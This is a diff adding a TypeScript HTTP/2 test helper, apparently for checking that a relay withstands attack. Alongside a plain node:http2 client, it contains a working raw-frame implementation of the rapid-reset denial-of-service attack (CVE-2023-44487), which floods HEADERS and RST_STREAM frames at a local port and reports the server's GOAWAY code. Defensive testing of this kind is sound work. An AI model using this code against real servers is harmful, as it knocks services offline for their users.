@@ -1,0 +1,119 @@
+// A real HTTP/2 client (node:http2) for the relay's public HTTPS listener.
+
+import http2 from 'node:http2';
+import tls from 'node:tls';
+
+export function h2session(authority: string, tls: { ca?: Buffer; servername?: string; rejectUnauthorized?: boolean } = {}): Promise<http2.ClientHttp2Session> {
+  return new Promise((resolve, reject) => {
+    const s = http2.connect(authority, tls);
+    const t = setTimeout(() => {
+      s.destroy();
+      reject(new Error(`no HTTP/2 session with ${authority} in 10 s`));
+    }, 10_000);
+    // Once the server's SETTINGS are in (its limits are then known).
+    s.once('remoteSettings', () => {
+      clearTimeout(t);
+      resolve(s);
+    });
+    s.once('error', (e) => {
+      clearTimeout(t);
+      reject(e);
+    });
+  });
+}
+
+export interface H2Reply {
+  status: number;
+  headers: http2.IncomingHttpHeaders;
+  body: string;
+}
+
+/** One request on a session; its whole answer (bounded by a 10 s deadline). */
+export function h2get(s: http2.ClientHttp2Session, headers: http2.OutgoingHttpHeaders, body?: Buffer | string): Promise<H2Reply> {
+  return new Promise((resolve, reject) => {
+    const stream = s.request(headers, { endStream: body === undefined });
+    const t = setTimeout(() => {
+      stream.close(http2.constants.NGHTTP2_CANCEL);
+      reject(new Error(`no HTTP/2 answer to ${String(headers[':path'])} in 10 s`));
+    }, 10_000);
+    let got: http2.IncomingHttpHeaders = {};
+    const parts: Buffer[] = [];
+    stream.on('response', (h) => (got = h));
+    stream.on('data', (c: Buffer) => parts.push(c));
+    stream.once('end', () => {
+      clearTimeout(t);
+      resolve({ status: Number(got[':status']), headers: got, body: Buffer.concat(parts).toString() });
+    });
+    stream.once('error', (e) => {
+      clearTimeout(t);
+      reject(e);
+    });
+    if (body !== undefined) stream.end(body);
+  });
+}
+
+/**
+ * The rapid-reset attack (CVE-2023-44487) in raw frames: each stream is a
+ * HEADERS frame for GET / followed at once by RST_STREAM(CANCEL), in one
+ * write per batch, as the attack tools send them. Resolves with the GOAWAY
+ * error code the server answers with (or null if the connection ends without
+ * one), after at most `streams` streams and `deadlineMs`.
+ */
+export function rapidReset(o: { port: number; ca: Buffer; servername: string; authority: string; streams: number; deadlineMs?: number }): Promise<{ goaway: number | null; sent: number }> {
+  return new Promise((resolve, reject) => {
+    const sock = tls.connect({ host: '127.0.0.1', port: o.port, ca: o.ca, servername: o.servername, ALPNProtocols: ['h2'] });
+    let sent = 0;
+    let buf = Buffer.alloc(0);
+    let done = false;
+    const finish = (goaway: number | null) => {
+      if (done) return;
+      done = true;
+      clearTimeout(t);
+      sock.destroy();
+      resolve({ goaway, sent });
+    };
+    const t = setTimeout(() => finish(null), o.deadlineMs ?? 10_000);
+    sock.on('error', (e) => (done ? undefined : sent > 0 ? finish(null) : reject(e)));
+    sock.on('close', () => finish(null));
+    const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
+      const h = Buffer.alloc(9);
+      h.writeUIntBE(payload.length, 0, 3);
+      h[3] = type;
+      h[4] = flags;
+      h.writeUInt32BE(stream, 5);
+      return Buffer.concat([h, payload]);
+    };
+    // HPACK: :method GET, :scheme https, :path / (static table), :authority as a literal.
+    const auth = Buffer.from(o.authority);
+    const block = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, auth.length]), auth]);
+    const cancel = Buffer.alloc(4);
+    cancel.writeUInt32BE(0x8);
+    sock.once('secureConnect', () => {
+      if (sock.alpnProtocol !== 'h2') return reject(new Error(`ALPN chose ${String(sock.alpnProtocol)}, not h2`));
+      sock.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
+      const burst = () => {
+        if (done) return;
+        const frames: Buffer[] = [];
+        for (let i = 0; i < 50 && sent < o.streams; i++, sent++) {
+          const id = 2 * sent + 1;
+          frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
+        }
+        if (frames.length > 0) sock.write(Buffer.concat(frames), () => setImmediate(burst));
+      };
+      burst();
+    });
+    sock.on('data', (c: Buffer) => {
+      buf = Buffer.concat([buf, c]);
+      while (buf.length >= 9) {
+        const len = buf.readUIntBE(0, 3);
+        if (buf.length < 9 + len) break;
+        const type = buf[3]!;
+        const flags = buf[4]!;
+        const payload = buf.subarray(9, 9 + len);
+        buf = buf.subarray(9 + len);
+        if (type === 4 && (flags & 1) === 0) sock.write(frame(4, 1, 0, Buffer.alloc(0)));
+        if (type === 7) return finish(payload.readUInt32BE(4));
+      }
+    });
+  });
+}
